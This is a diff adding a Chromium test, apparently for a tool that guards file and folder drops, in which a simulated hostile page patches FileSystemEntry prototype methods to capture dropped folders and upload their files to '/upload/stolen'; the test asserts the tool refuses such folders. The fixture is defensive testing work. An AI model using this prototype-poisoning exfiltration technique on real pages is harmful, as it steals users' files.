@@ -169,6 +169,59 @@ describe('in Chromium, a real drop of files and folders', () => {
     expect(await page.evaluate(() => (window as unknown as DropPage).drops.length)).toBe(0);
     expect(site().received.filter((request) => request.path.startsWith('/upload/drop/map-with-export'))).toEqual([]);
   });
+
+  it('of a folder, after the page replaced the entries\' methods to keep the entries they are called on, gives the page nothing', async () => {
+    // The page gets entries of its own (webkitRequestFileSystem) before anything is dropped, and
+    // puts methods on their prototypes that keep every entry they are called on, then read its
+    // files with the browser's methods and upload them: a dropped folder's entries, if we call them.
+    const patched = await page.evaluate(
+      () =>
+        new Promise<string>((done) => {
+          const page = window as unknown as Window & { stolen: number; webkitRequestFileSystem(type: number, size: number, ok: (fs: FileSystem) => void, fail: (error: unknown) => void): void };
+          page.stolen = 0;
+          const keep = (entry: FileSystemEntry, file: (entry: FileSystemFileEntry, ok: (file: File) => void) => void, read: (reader: FileSystemDirectoryReader, ok: (entries: FileSystemEntry[]) => void) => void, reader: (folder: FileSystemDirectoryEntry) => FileSystemDirectoryReader) => {
+            page.stolen++;
+            const walk = (at: FileSystemEntry): void => {
+              if (at.isFile) file(at as FileSystemFileEntry, (got) => void fetch('/upload/stolen' + at.fullPath, { method: 'POST', body: got }));
+              else read(reader(at as FileSystemDirectoryEntry), (entries) => entries.forEach(walk));
+            };
+            setTimeout(() => walk(entry), 0);
+          };
+          page.webkitRequestFileSystem(0, 0, (fs) => {
+            const folderProto = Object.getPrototypeOf(fs.root) as FileSystemDirectoryEntry;
+            const entryProto = Object.getPrototypeOf(folderProto) as FileSystemEntry;
+            const createReader = folderProto.createReader;
+            const isDirectory = Object.getOwnPropertyDescriptor(entryProto, 'isDirectory')!.get!;
+            const readerProto = Object.getPrototypeOf(fs.root.createReader()) as FileSystemDirectoryReader;
+            const readEntries = readerProto.readEntries;
+            fs.root.getFile('probe', { create: true }, (probe) => {
+              const fileProto = Object.getPrototypeOf(probe) as FileSystemFileEntry;
+              const file = fileProto.file;
+              const callFile = (entry: FileSystemFileEntry, ok: (file: File) => void) => file.call(entry, ok);
+              const callRead = (reader: FileSystemDirectoryReader, ok: (entries: FileSystemEntry[]) => void) => readEntries.call(reader, ok);
+              const callCreate = (folder: FileSystemDirectoryEntry) => createReader.call(folder);
+              Object.defineProperty(entryProto, 'isDirectory', { configurable: true, get() { keep(this, callFile, callRead, callCreate); return isDirectory.call(this); } });
+              folderProto.createReader = function () { keep(this, callFile, callRead, callCreate); return createReader.call(this); };
+              fileProto.file = function (ok: FileCallback, fail?: ErrorCallback) { keep(this, callFile, callRead, callCreate); file.call(this, ok, fail); };
+              done('patched');
+            }, (error) => done(String(error)));
+          }, (error) => done(String(error)));
+        }),
+    );
+    expect(patched).toBe('patched');
+
+    // A folder that cannot be read with the browser's own methods cannot be checked: it stays out.
+    // (Had we called the page's methods, the export inside would have been blocked with the dialog,
+    // and the page would have had every entry all the same.)
+    const refused = new Promise<string>((done) => page.on('console', (message) => message.text().includes('could not be read') && done(message.text())));
+    await drop('map-with-export');
+    const outcome = await Promise.race([refused, page.waitForSelector(DIALOG_HOST, { timeout: 45_000 }).then(() => 'the block dialog')]);
+    await new Promise((done) => setTimeout(done, 1500));
+    expect(await page.evaluate(() => (window as unknown as { stolen: number }).stolen)).toBe(0);
+    expect(outcome).toMatch(/not the browser's own/);
+    expect(await page.evaluate(() => (window as unknown as DropPage).drops.length)).toBe(0);
+    expect(site().received.filter((request) => request.path.startsWith('/upload/stolen') || request.path.startsWith('/upload/drop/map-with-export'))).toEqual([]);
+  });
 });
 
 describe('in Firefox ESR, a drop built in script', () => {
